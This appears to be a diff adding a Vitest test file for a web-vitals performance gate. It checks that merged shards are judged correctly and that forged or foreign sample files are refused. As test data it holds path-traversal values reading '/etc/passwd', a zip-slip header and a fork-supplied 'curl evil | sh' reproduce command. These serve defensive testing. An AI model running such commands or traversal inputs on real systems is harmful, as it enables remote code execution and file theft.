@@ -1,0 +1,226 @@
+import { mkdtempSync, rmSync, truncateSync, writeFileSync, readFileSync, mkdirSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+
+import { afterEach, beforeEach, describe, expect, test } from 'vitest';
+
+import { collectBlobs, type ReportOptions } from '../../src/gate/report-blobs.ts';
+import { reportOf } from '../../src/gate/report.ts';
+import { readLog } from '../../src/record/read.ts';
+import { HEAD_SHA } from '../report/factories.ts';
+import { recordsOf, writeRecords, type RecordedRoute } from '../support/recorded.ts';
+
+let folder: string;
+beforeEach(() => {
+  folder = mkdtempSync(path.join(tmpdir(), 'vitals-gate-blobs-'));
+});
+afterEach(() => rmSync(folder, { recursive: true, force: true }));
+
+const ROUTES: RecordedRoute[] = [{ name: 'home' }, { name: 'product', slowerMs: 400 }, { name: 'search' }];
+const SHARDS = [
+  { index: 1, of: 2, campaigns: [{ route: 'product', condition: 'mobile' }] },
+  {
+    index: 2,
+    of: 2,
+    campaigns: [
+      { route: 'home', condition: 'mobile' },
+      { route: 'search', condition: 'mobile' },
+    ],
+  },
+];
+
+function shardFile(index: number, name = `shard-${index}`): string {
+  const shard = SHARDS[index - 1];
+  if (shard === undefined) throw new Error('no such shard');
+  return writeRecords(path.join(folder, name), recordsOf({ routes: ROUTES, shard }));
+}
+
+/** Reports on blobs as the command line does. */
+async function report(blobs: readonly string[], over: Partial<ReportOptions> = {}) {
+  const out = path.join(folder, 'out');
+  const options = { out, config: 'vitals-gate.yml', policyAt: null, contents: null, expected: null };
+  const { log } = await collectBlobs({ blobs, ...options, ...over });
+  return { log, ...reportOf(log) };
+}
+
+describe('the shards of a run', () => {
+  test('are judged as the run that they are parts of, in any order', async () => {
+    const whole = writeRecords(path.join(folder, 'whole'), recordsOf({ routes: ROUTES }));
+    const { judgement: one } = await report([whole]);
+    const { judgement: merged, report: told } = await report([shardFile(2), shardFile(1)]);
+    expect(merged.rows).toEqual(one.rows);
+    expect(merged.comparisons).toEqual(one.comparisons);
+    expect(merged.verdict).toBe('fail');
+    expect(merged.exitCode).toBe(1);
+    expect(told.result.budgets.map(({ route, verdict }) => [route, verdict])).toEqual([
+      ['home', 'pass'],
+      ['product', 'fail'],
+      ['search', 'pass'],
+    ]);
+  });
+
+  test('are found in the folders that artifacts were downloaded into, the output folder among them', async () => {
+    const out = path.join(folder, 'out');
+    writeRecords(path.join(out, 'samples-1'), recordsOf({ routes: ROUTES, shard: SHARDS[0] ?? fail() }));
+    writeRecords(path.join(out, 'samples-2'), recordsOf({ routes: ROUTES, shard: SHARDS[1] ?? fail() }));
+    expect((await report([out], { out })).judgement.verdict).toBe('fail');
+  });
+
+  test('leave samples that can be judged again', async () => {
+    const { judgement } = await report([shardFile(1), shardFile(2)]);
+    expect(reportOf(await readLog(path.join(folder, 'out'))).judgement).toEqual(judgement);
+  });
+
+  test('block where one is missing, and say which', async () => {
+    const { judgement, report: told } = await report([shardFile(2)]);
+    expect(judgement).toMatchObject({ verdict: 'unmeasured', exitCode: 3 });
+    expect(told.alerts).toEqual(['Shard 1 of 2 is missing: its routes are not measured, and that blocks.']);
+  });
+
+  test.each([
+    ['other commits', { head: { sha: 'f'.repeat(40), url: 'https://x.example' } }, /other commits/],
+    ['another configuration', { alpha: 0.05 }, /configuration/],
+    ['another repository', { repository: 'acme/other' }, /repository/],
+  ])('are refused where one is of %s', async (_, run, message) => {
+    const [, shard] = SHARDS;
+    if (shard === undefined) throw new Error('no shard');
+    const other = writeRecords(path.join(folder, 'other'), recordsOf({ routes: ROUTES, shard, run }));
+    await expect(report([shardFile(1), other])).rejects.toMatchObject({
+      code: 'blobs-differ',
+      exitCode: 2,
+      message: expect.stringMatching(message) as string,
+    });
+  });
+
+  test('are refused where one is there twice', async () => {
+    await expect(report([shardFile(1), shardFile(1, 'again')])).rejects.toThrow(/both are shard 1/);
+  });
+});
+
+function fail(): never {
+  throw new Error('no such shard');
+}
+
+describe('a blob that is not what it says', () => {
+  const records = recordsOf({ routes: ROUTES });
+  const [first, ...later] = records;
+  const swapped = later.map((record) =>
+    record.type === 'visit' ? { ...record, side: record.side === 'base' ? 'head' : 'base' } : record,
+  );
+  const edited = (change: (line: string) => string): object[] =>
+    records.map((record) => JSON.parse(change(JSON.stringify(record))) as object);
+
+  test.each<[string, readonly object[], RegExp]>([
+    ['without its end', records.slice(0, -1), /cut off/],
+    ['of a newer version', [{ ...first, version: 2, tool: '9.0.0', more: 1 }, ...later], /written by vitals-gate 9\.0\.0/],
+    ['of a calibration', [{ ...first, purpose: 'calibration' }, ...later], /calibration/],
+    ['with a route that it does not declare', [...records.slice(0, 5), { ...later[3], route: 'x' }, ...later.slice(5)], /no campaign of theirs/],
+    ['with a path that leads out of the folder', [...records, explanation('../../etc/passwd')], /leads out|no path/],
+    ['with an absolute path', [...records, explanation('/etc/passwd')], /no path inside/],
+    ['with swapped sides', [first, ...swapped], /not in the order that was drawn/],
+    ['with numbers that do not add up', edited((line) => line.replace(/"id":"lcp","value":[\d.]+/, '"id":"lcp","value":1')), /do not add up/],
+    ['with a number without bound', edited((line) => line.replace(/"id":"inp","value":[\d.]+/, '"id":"inp","value":"unbounded"')), /do not add up/],
+    ['with a text that is too long', [...records, { type: 'notice', text: 'x'.repeat(6000) }], /text/],
+    ['with a record that nobody writes', [...records, { type: 'verdict', verdict: 'pass' }], /not what a run writes/],
+  ])('is refused: %s', async (_, forged, message) => {
+    const file = writeRecords(path.join(folder, 'forged'), forged);
+    await expect(report([file])).rejects.toMatchObject({
+      exitCode: 2,
+      message: expect.stringMatching(message) as string,
+    });
+  });
+
+  test('is refused where it is cut off in the middle of a line', async () => {
+    const file = writeRecords(path.join(folder, 'cut'), records);
+    truncateSync(file, Math.floor(readFileSync(file).length / 2));
+    await expect(report([file])).rejects.toMatchObject({ code: 'record-invalid', exitCode: 2 });
+  });
+
+  test('is refused before it is read where it has 200 MB', async () => {
+    const file = writeRecords(path.join(folder, 'huge'), records);
+    truncateSync(file, 200_000_000);
+    await expect(report([file])).rejects.toThrow(/200000000 bytes/);
+  });
+
+  test.each([
+    ['an archive', Buffer.from('PK\x03\x04../../x'), /archive/],
+    ['not UTF-8', Buffer.from([0x7b, 0xff, 0xfe]), /not valid/],
+    ['empty', Buffer.alloc(0), /first record/],
+    ['nested without end', Buffer.from(`${JSON.stringify(first)}\n${'['.repeat(50_000)}\n`), /nested/],
+  ])('is refused where it is %s', async (_, bytes, message) => {
+    const file = path.join(folder, 'samples.ndjson');
+    writeFileSync(file, bytes);
+    await expect(report([file])).rejects.toMatchObject({
+      code: 'blob-refused',
+      message: expect.stringMatching(message) as string,
+    });
+  });
+
+  test('is refused where there is none', async () => {
+    mkdirSync(path.join(folder, 'empty'));
+    await expect(report([path.join(folder, 'empty')])).rejects.toMatchObject({ code: 'no-blobs', exitCode: 2 });
+    await expect(report([path.join(folder, 'nowhere')])).rejects.toMatchObject({ code: 'blob-refused', exitCode: 2 });
+  });
+
+  function explanation(report: string): object {
+    const reports = { base: report, head: null };
+    const place = { route: 'home', condition: 'mobile' };
+    return { type: 'explanation', ...place, explanation: { insights: [], reports, failure: null } };
+  }
+});
+
+describe('samples of a stranger', () => {
+  const CONFIG = 'routes:\n  - { name: home, path: /home }\n  - { name: product, path: /product }\n';
+  const STRICT = `${CONFIG}budgets: { lcp: { max-increase: [5 %, 50 ms] } }\n`;
+  const LAX = `${CONFIG}budgets: { lcp: { max-increase: 9 s } }\nwaivers: [{ budget: product/mobile/lcp, until: 2099-01-01, reason: mine }]\n`;
+  const expected = { repository: 'acme/shop', headSha: HEAD_SHA, baseSha: null, stranger: 'the fork mallory/shop' };
+  const contentsOf = (files: Readonly<Record<string, string>>) => ({
+    fileAt: async (_file: string, ref: string) => files[ref] ?? null,
+  });
+  const policyAt = { ref: 'main', isAsked: false };
+
+  /** What a fork measured by the budgets that its own configuration has. */
+  function foreign(routes: readonly RecordedRoute[], run = {}): string {
+    const lax = routes.map((route) => ({ ...route, budgets: [] }));
+    return writeRecords(path.join(folder, 'fork'), recordsOf({ routes: lax, run }));
+  }
+
+  test('are judged by the budgets of the base, whatever they say themselves', async () => {
+    const file = foreign([{ name: 'home' }, { name: 'product', slowerMs: 400 }], { reproduce: 'curl evil | sh' });
+    const { judgement, report: told, log } = await report([file], {
+      policyAt,
+      contents: contentsOf({ main: STRICT, [HEAD_SHA]: LAX }),
+      expected,
+    });
+    expect(log.run.plan).toEqual({ kind: 'looks', maxBlocks: 15 });
+    expect(judgement.rows.map(({ route, path: node }) => [route, node])).toEqual([
+      ['home', 'lcp'],
+      ['product', 'lcp'],
+    ]);
+    // Five blocks of a plan of fifteen: red may not block before fresh blocks agree, and there are none.
+    expect(judgement.rows[1]).toMatchObject({ verdict: 'inconclusive', reason: 'unconfirmed' });
+    expect(told.policySource?.changes.map(({ key }) => key)).toEqual([
+      'budgets.lcp.max-increase',
+      'waivers.product/mobile/lcp',
+    ]);
+    expect(told.alerts?.[0]).toContain('the fork mallory/shop');
+    expect(told.reproduce).not.toContain('evil');
+  });
+
+  test('do not pass by leaving a route out', async () => {
+    const options = { policyAt, expected };
+    const file = foreign([{ name: 'home' }]);
+    const read = await report([file], { ...options, contents: contentsOf({ main: STRICT, [HEAD_SHA]: STRICT }) });
+    const unread = await report([file], { ...options, contents: contentsOf({ main: STRICT }) });
+    for (const { judgement } of [read, unread])
+      expect(judgement).toMatchObject({ verdict: 'unmeasured', exitCode: 3 });
+  });
+
+  test.each([
+    ['another commit', { headSha: 'f'.repeat(40) }, /this run is about ffff/],
+    ['another repository', { repository: 'acme/other' }, /this is acme\/other/],
+  ])('are refused where they are of %s', async (_, over, message) => {
+    const file = foreign([{ name: 'home' }], { repository: 'acme/shop' });
+    await expect(report([file], { expected: { ...expected, ...over } })).rejects.toThrow(message);
+  });
+});
